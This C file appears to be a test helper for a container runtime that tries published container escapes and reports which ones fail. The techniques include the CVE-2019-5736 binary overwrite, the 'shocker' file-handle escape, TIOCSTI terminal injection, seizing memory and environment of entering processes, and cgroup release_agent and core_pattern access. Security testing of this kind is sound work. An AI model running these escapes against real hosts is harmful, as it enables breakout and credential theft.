/*
 * attack.c - what a hostile program in a container tries, one published mechanism per command.
 *
 * Each attempt prints a line "NAME RESULT": "ok" where the attempt succeeded, else the number of
 * the error. The tests say what has to fail; the same commands in a container that may do these
 * things show that they would work.
 *
 *   attack write PATH...         open for writing (nothing is written)
 *   attack exe PATH              write to a program by its magic link, change its mount, copy it
 *   attack hunt SECONDS          lie in wait for foreign processes and seize whatever they hold
 *   attack snatch SECONDS        the same, for their program alone
 *   attack swap SECONDS A B      exchange two names as fast as possible
 *   attack tty TEXT              type TEXT into the terminal of whoever called
 *   attack handle PATH           open the root directory of PATH's file system by its handle
 *   attack mknod b|c MAJOR MINOR make a device file and open it
 *   attack key ID                read a key
 *   attack abstract NAME         connect to an abstract socket
 *   attack userns                in a new user namespace: mount whole procfs, sysfs, cgroup
 *   attack mount TARGET          mount a tmpfs there, and wait to be killed
 *   attack groups                print the groups of the process
 *   attack wait                  sleep
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/mount.h>
#include <sched.h>
#include <stdbool.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static int say(const char *name, long result)
{
	if (result >= 0)
		printf("%s ok\n", name);
	else
		printf("%s %d\n", name, errno);
	fflush(stdout);
	return result >= 0;
}

static double now(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

/* ---- files -------------------------------------------------------------------------------- */

static void attack_write(char **path)
{
	for (; *path; path++)
		say(*path, open(*path, O_WRONLY | O_CLOEXEC | O_NONBLOCK));
}

static long clear_readonly(int fd)
{
	struct mount_attr attr = { .attr_clr = MOUNT_ATTR_RDONLY };

	return syscall(SYS_mount_setattr, fd, "", AT_EMPTY_PATH, &attr, sizeof attr);
}

/* CVE-2019-5736: the descriptor outlives the process that made the program busy. */
static void attack_held(int fd)
{
	char path[64];
	int again, tree;

	snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
	say("setattr", clear_readonly(fd));
	say("remount", mount(NULL, path, NULL, MS_REMOUNT | MS_BIND, NULL));
	tree = (int)syscall(SYS_open_tree, fd, "", AT_EMPTY_PATH | OPEN_TREE_CLONE);
	if (say("clone", tree) && say("cloneattr", clear_readonly(tree)))
		say("clonewrite", openat(tree, "", O_WRONLY));
	say("chmod", chmod(path, 0777));
	for (double end = now() + 0.5;;) {
		again = open(path, O_WRONLY | O_CLOEXEC);
		if (again >= 0 || errno != ETXTBSY || now() > end)
			break;
		usleep(100);
	}
	if (say("write", again))
		say("overwritten", pwrite(again, "#!/pwned\n", 9, 0));
}

static void attack_exe(const char *path)
{
	int fd = open(path, O_RDONLY | O_CLOEXEC);

	if (say("open", fd))
		attack_held(fd);
}

/* ---- whoever enters the container ------------------------------------------------------------ */

/*
 * A process of the runtime on its way in: its program is hidden from us, or is not the image's. The
 * link of a program whose mount is in no namespace is "/".
 */
static bool is_entering(int pid)
{
	char path[64], link[512];
	ssize_t n;

	snprintf(path, sizeof path, "/proc/%d/exe", pid);
	n = readlink(path, link, sizeof link - 1);
	if (n < 0)
		return errno == EACCES || errno == EPERM;
	link[n] = 0;
	return strcmp(link, "/") == 0 || strstr(link, "containr") || strstr(link, "runc") ||
	       strstr(link, "crun") || strstr(link, "memfd");
}

/* What was taken counts only if it was not the program already, which belongs to the container. */
static void seize(int pid, const char *what, int flags)
{
	char path[64];
	int fd;

	snprintf(path, sizeof path, "/proc/%d/%s", pid, what);
	fd = open(path, flags | O_CLOEXEC | O_NONBLOCK);
	if (fd < 0)
		return;
	if (is_entering(pid))
		say(what, fd);
	close(fd);
}

/* By a child, whose end lets go of what it traces. */
static void trace(int pid)
{
	pid_t child = fork();

	if (child == 0) {
		if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0 && is_entering(pid))
			say("ptrace", 0);
		_exit(0);
	}
	waitpid(child, NULL, 0);
}

static bool seize_exe(int pid)
{
	char path[64];
	int exe;

	snprintf(path, sizeof path, "/proc/%d/exe", pid);
	exe = open(path, O_RDONLY | O_CLOEXEC);
	if (exe < 0)
		return false;
	if (is_entering(pid)) {
		say("exe", 0);
		attack_held(exe);
	}
	close(exe);
	return true;
}

static void assault(int pid)
{
	puts("met ok");
	seize(pid, "mem", O_RDWR);
	seize(pid, "environ", O_RDONLY);
	seize(pid, "maps", O_RDONLY);
	seize(pid, "root", O_PATH);
	seize(pid, "cwd", O_PATH);
	/* The list can be read by root, what stands in it cannot be followed. */
	for (int fd = 0; fd < 24; fd++) {
		char name[16];

		snprintf(name, sizeof name, "fd/%d", fd);
		seize(pid, name, O_PATH);
	}
	trace(pid);
	fflush(stdout);
}

/* The program that the runtime becomes for "#!/proc/self/exe" lives for a millisecond. */
static void snatch(int pid)
{
	puts("met ok");
	while (is_entering(pid) && !seize_exe(pid))
		;
	fflush(stdout);
}

/* Pids are given out in order, so the next ones are asked for before they are there. */
static void attack_hunt(double seconds, void (*meet)(int pid))
{
	double end = now() + seconds;
	int self = getpid(), top = self;

	puts("ready ok");
	fflush(stdout);
	while (now() < end) {
		for (int pid = 2; pid <= top + 8; pid++) {
			if (pid == self || !is_entering(pid))
				continue;
			if (pid > top)
				top = pid;
			meet(pid);
		}
		while (kill(top + 1, 0) == 0 || errno == EPERM)
			top++;
	}
	fflush(stdout);
}

static void attack_swap(double seconds, const char *a, const char *b)
{
	double end = now() + seconds;
	unsigned long n = 0;

	puts("ready ok");
	fflush(stdout);
	while (n++ % 64 || now() < end)
		syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, 2 /* RENAME_EXCHANGE */);
}

/* ---- devices, keys, sockets ----------------------------------------------------------------- */

static void attack_tty(const char *text)
{
	say("tty", open("/dev/tty", O_RDWR | O_CLOEXEC));
	for (; *text; text++)
		if (!say("tiocsti", ioctl(0, TIOCSTI, text)))
			return;
}

/* "shocker", 2014: handles know nothing of the root directory of who opens them. */
static void attack_handle(const char *path)
{
	union {
		struct file_handle handle;
		char room[sizeof(struct file_handle) + 128];
	} h = { .handle.handle_bytes = 128 };
	int mount = open(path, O_RDONLY | O_DIRECTORY | O_CLOEXEC), id;

	if (name_to_handle_at(AT_FDCWD, path, &h.handle, &id, 0) < 0)
		say("name", -1);
	say("handle", open_by_handle_at(mount, &h.handle, O_RDONLY));
}

static void attack_mknod(char type, const char *major_text, const char *minor_text)
{
	dev_t dev = makedev((unsigned)atoi(major_text), (unsigned)atoi(minor_text));

	unlink("/node");
	say("mknod", mknod("/node", (type == 'b' ? S_IFBLK : S_IFCHR) | 0600, dev));
	say("open", open("/node", O_RDONLY | O_NONBLOCK | O_CLOEXEC));
}

static void attack_key(const char *id)
{
	char text[64];

	say("session", syscall(SYS_keyctl, 0 /* GET_KEYRING_ID */, -3, 0));
	say("read", syscall(SYS_keyctl, 11 /* READ */, atoi(id), text, sizeof text));
	say("search", syscall(SYS_keyctl, 10 /* SEARCH */, -3, "user", "e2e-secret", 0));
}

static void attack_abstract(const char *name)
{
	struct sockaddr_un to = { .sun_family = AF_UNIX };
	int fd = socket(AF_UNIX, SOCK_STREAM, 0);

	strncpy(to.sun_path + 1, name, sizeof to.sun_path - 2);
	say("connect",
	    connect(fd, (void *)&to,
		    (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 + strlen(name))));
}

/* ---- rights by a user namespace ----------------------------------------------------------------
 */

static void become_root(void)
{
	const char *const lines[][2] = { { "/proc/self/setgroups", "deny" },
					 { "/proc/self/uid_map", "0 0 1" },
					 { "/proc/self/gid_map", "0 0 1" } };

	for (int i = 0; i < 3; i++) {
		int fd = open(lines[i][0], O_WRONLY | O_CLOEXEC);

		if (write(fd, lines[i][1], strlen(lines[i][1])) < 0)
			say(lines[i][0], -1);
		close(fd);
	}
}

static void mounts_inside(void)
{
	struct mount_attr attr = { .attr_clr = MOUNT_ATTR_RDONLY };

	mkdir("/tmp/x", 0755);
	say("tmpfs", mount("x", "/tmp/x", "tmpfs", 0, NULL));
	mkdir("/tmp/x/p", 0755);
	mkdir("/tmp/x/s", 0755);
	mkdir("/tmp/x/c", 0755);
	say("proc", mount("p", "/tmp/x/p", "proc", 0, NULL));
	say("sysfs", mount("s", "/tmp/x/s", "sysfs", 0, NULL));
	if (say("cgroup", mount("c", "/tmp/x/c", "cgroup", 0, "memory")))
		say("release_agent", open("/tmp/x/c/release_agent", O_WRONLY));
	say("unmask", umount2("/proc/keys", MNT_DETACH));
	say("remount", mount(NULL, "/proc/sys", NULL, MS_REMOUNT | MS_BIND, NULL));
	say("setattr", syscall(SYS_mount_setattr, AT_FDCWD, "/proc/sys", 0, &attr, sizeof attr));
	say("core_pattern", open("/proc/sys/kernel/core_pattern", O_WRONLY));
}

static void attack_userns(void)
{
	const int flags = CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWPID | CLONE_NEWNET |
			  CLONE_NEWCGROUP | CLONE_NEWIPC;
	pid_t child;

	if (!say("unshare", unshare(flags)))
		return;
	become_root();
	child = fork();
	if (child == 0) {
		mounts_inside();
		_exit(0);
	}
	waitpid(child, NULL, 0);
}

static void attack_groups(void)
{
	gid_t groups[1024];
	int n = getgroups(1024, groups);

	for (int i = 0; i < n; i++)
		printf("%u ok\n", groups[i]);
	printf("count %d\n", n);
}

int main(int argc, char **argv)
{
	const char *what = argc > 1 ? argv[1] : "";

	if (strcmp(what, "write") == 0)
		attack_write(argv + 2);
	else if (strcmp(what, "exe") == 0 && argc == 3)
		attack_exe(argv[2]);
	else if (strcmp(what, "hunt") == 0 && argc == 3)
		attack_hunt(atof(argv[2]), assault);
	else if (strcmp(what, "snatch") == 0 && argc == 3)
		attack_hunt(atof(argv[2]), snatch);
	else if (strcmp(what, "swap") == 0 && argc == 5)
		attack_swap(atof(argv[2]), argv[3], argv[4]);
	else if (strcmp(what, "tty") == 0 && argc == 3)
		attack_tty(argv[2]);
	else if (strcmp(what, "handle") == 0 && argc == 3)
		attack_handle(argv[2]);
	else if (strcmp(what, "mknod") == 0 && argc == 5)
		attack_mknod(argv[2][0], argv[3], argv[4]);
	else if (strcmp(what, "key") == 0 && argc == 3)
		attack_key(argv[2]);
	else if (strcmp(what, "abstract") == 0 && argc == 3)
		attack_abstract(argv[2]);
	else if (strcmp(what, "userns") == 0)
		attack_userns();
	else if (strcmp(what, "mount") == 0 && argc == 3)
		say("mount", mount("attack", argv[2], "tmpfs", 0, NULL));
	else if (strcmp(what, "groups") == 0)
		attack_groups();
	else if (strcmp(what, "wait") == 0)
		pause();
	else
		return 2;
	return 0;
}
